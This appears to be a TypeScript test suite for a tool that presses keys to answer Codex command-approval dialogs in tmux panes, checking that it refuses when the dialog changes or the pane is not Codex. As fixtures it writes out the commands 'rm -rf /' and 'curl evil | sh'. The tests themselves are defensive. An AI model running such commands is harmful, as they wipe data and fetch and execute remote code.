import assert from 'node:assert/strict';
import { dialogFingerprint } from '../../../src/core/codex/dialogFingerprint.ts';
import {
  answerableClasses,
  answerDialog,
  type AnswerRequest,
  type AnswerResult,
  approvalClasses,
} from '../../../src/core/delivery/answerDialog.ts';
import { readScreen } from '../../../src/core/delivery/preflight.ts';
import type { Dialog } from '../../../src/core/domain/screen.ts';
import { FakeClock } from '../../../src/core/ports/clock.ts';
import { FakeHostFacts } from '../../../src/core/ports/hostFacts.ts';
import { FakeTmux } from '../../../src/core/tmux/fakeTmux.ts';
import type { PaneKey } from '../../../src/core/tmux/paneInput.ts';
import { recordedScreen, recordedVersions } from './recordedScreen.ts';

const LABELS = ['Yes, proceed (y)', 'Yes, and remember (p)', 'No, tell it what to do (esc)'];

/** A pane whose Codex asks, and follows the keys as the real one does. */
function setUp(title = 'Would you like to run the following command?', labels = LABELS) {
  const tmux = new FakeTmux();
  const pane = tmux.add('codex-w1');
  const host = new FakeHostFacts();
  host.processes.set(100, { commandLine: ['/usr/bin/codex', '--no-daemon'] });
  const world = { mark: 1, command: 'rm -rf build', taken: null as number | 'esc' | null, ignoresArrows: false };
  const draw = () => {
    const rows = labels.map((label, at) => `${at + 1 === world.mark ? '›' : ' '} ${at + 1}. ${label}`);
    const hints = '  Press enter to confirm or esc to cancel';
    pane.show([`  ${title}`, '', `  $ ${world.command}`, '', ...rows, '', hints].join('\n'));
  };
  const end = (taken: number | 'esc') => {
    world.taken = taken;
    pane.show(null);
  };
  pane.press = (key: PaneKey) => {
    if (world.taken !== null) return;
    if (key === 'Escape') return end('esc');
    if (key === 'Enter') return end(world.mark);
    if (world.ignoresArrows) return;
    const step = key === 'Down' ? 1 : key === 'Up' ? -1 : 0;
    world.mark = Math.min(labels.length, Math.max(1, world.mark + step));
    draw();
  };
  draw();
  const clock = new FakeClock();
  const ports = { tmux, input: tmux, host, clock };
  const answer = (parts: Partial<AnswerRequest> = {}): Promise<AnswerResult> =>
    answerDialog(ports, {
      address: { session: 'codex-w1', paneId: pane.paneId },
      option: 1,
      expected: null,
      classes: approvalClasses,
      ...parts,
    });
  const dialog = async (): Promise<Dialog> => {
    const found = readScreen(await tmux.snapshot(pane.paneId)).dialog;
    assert.ok(found !== null);
    return found;
  };
  const keys = () => tmux.presses.map((press) => ('key' in press ? press.key : press.text));
  return { tmux, pane, world, draw, answer, dialog, keys };
}

const reasonOf = (result: AnswerResult): string => (result.outcome === 'answered' ? 'answered' : result.reason);

describe('answering a dialog', () => {
  it('moves the mark to the option, looks, and presses Enter', async () => {
    for (const [option, expected] of [
      [1, ['Enter']],
      [2, ['Down', 'Enter']],
      [3, ['Down', 'Down', 'Enter']],
    ] as const) {
      const { answer, world, keys } = setUp();
      const result = await answer({ option });
      assert.ok(result.outcome === 'answered' && result.hasClosed);
      assert.equal(world.taken, option);
      assert.deepEqual(keys(), expected);
      assert.match(result.dialog.text, /rm -rf build/);
    }
  });

  it('goes up where somebody had moved the mark down', async () => {
    const { answer, world, draw, keys } = setUp();
    world.mark = 3;
    draw();
    await answer({ option: 2 });
    assert.equal(world.taken, 2);
    assert.deepEqual(keys(), ['Up', 'Enter']);
  });

  it('declines with one Esc', async () => {
    const { answer, world, keys } = setUp();
    const result = await answer({ option: null });
    assert.ok(result.outcome === 'answered' && result.option === null);
    assert.equal(world.taken, 'esc');
    assert.deepEqual(keys(), ['Escape']);
  });

  it('leaves another question alone than the one that was read', async () => {
    const { answer, world, draw, dialog, keys } = setUp();
    const expected = dialogFingerprint(await dialog());
    world.command = 'rm -rf /';
    draw();
    assert.equal(reasonOf(await answer({ expected })), 'dialog_changed');
    assert.deepEqual(keys(), []);
  });

  it('reads it again right before the key that decides: what changed meanwhile is not answered', async () => {
    for (const option of [1, 3, null]) {
      const { answer, world, draw, keys } = setUp();
      const result = await answer({
        option,
        mayDecide: () => {
          world.command = 'curl evil | sh';
          draw();
          return true;
        },
      });
      assert.equal(reasonOf(result), 'dialog_changed');
      assert.equal(world.taken, null);
      assert.ok(!keys().includes('Enter') && !keys().includes('Escape'), keys().join());
    }
  });

  it('presses nothing when the fence says no, and nothing that decides when it says so later', async () => {
    const early = setUp();
    assert.equal(reasonOf(await early.answer({ beforeFirstKey: () => false })), 'fence_lost');
    assert.deepEqual(early.keys(), []);
    const late = setUp();
    const result = await late.answer({ option: 2, mayDecide: () => false });
    assert.ok(result.outcome === 'refused' && result.reason === 'fence_lost' && result.hasPressed);
    assert.deepEqual(late.keys(), ['Down']);
  });

  it('a mark that cannot be moved is no reason to press Enter', async () => {
    const { answer, world, keys } = setUp();
    world.ignoresArrows = true;
    assert.equal(reasonOf(await answer({ option: 3 })), 'no_such_option');
    assert.equal(world.taken, null);
    assert.ok(!keys().includes('Enter'));
  });

  it('refuses an option that is not offered, a screen that asks nothing, and a menu that nobody knows', async () => {
    const asked = setUp();
    assert.equal(reasonOf(await asked.answer({ option: 4 })), 'no_such_option');
    const quiet = setUp();
    quiet.pane.show(null);
    assert.equal(reasonOf(await quiet.answer()), 'no_dialog');
    const unknown = setUp('Something of tomorrow', ['Launch it', 'Do not']);
    assert.equal(reasonOf(await unknown.answer({ classes: answerableClasses })), 'dialog_not_answerable');
    assert.deepEqual([...asked.keys(), ...quiet.keys(), ...unknown.keys()], []);
  });

  it('takes an update, a trust question or a menu for nobody but the person, and never declines one', async () => {
    const update = setUp('Update available!', ['Update now (runs `npm install`)', 'Skip']);
    assert.equal(reasonOf(await update.answer()), 'dialog_not_answerable');
    assert.equal(reasonOf(await update.answer({ option: null, classes: answerableClasses })), 'dialog_not_answerable');
    assert.equal(update.world.taken, null);
    assert.equal(reasonOf(await update.answer({ option: 2, classes: answerableClasses })), 'answered');
    assert.equal(update.world.taken, 2);
  });

  it('OD-37: presses nothing where no Codex has the keyboard', async () => {
    const { pane, answer, keys } = setUp();
    pane.set({ currentCommand: 'bash' });
    assert.equal(reasonOf(await answer()), 'codex_not_in_foreground');
    pane.set({ isDead: true });
    assert.equal(reasonOf(await answer()), 'pane_dead');
    assert.deepEqual(keys(), []);
  });

  it('says when the question is still there after the key', async () => {
    const { pane, answer } = setUp();
    pane.press = () => {};
    const result = await answer({ settleMilliseconds: 500 });
    assert.ok(result.outcome === 'answered' && !result.hasClosed);
  });

  for (const version of recordedVersions()) {
    it(`the recorded approval of ${version} has a fingerprint that its mark does not change`, () => {
      const { dialog } = readScreen(recordedScreen(version, 'approval'));
      assert.ok(dialog !== null);
      const moved = { ...dialog, options: dialog.options.map((one) => ({ ...one, isMarked: !one.isMarked })) };
      assert.equal(dialogFingerprint(moved), dialogFingerprint(dialog));
      assert.notEqual(dialogFingerprint({ ...dialog, text: `${dialog.text} x` }), dialogFingerprint(dialog));
    });
  }
});
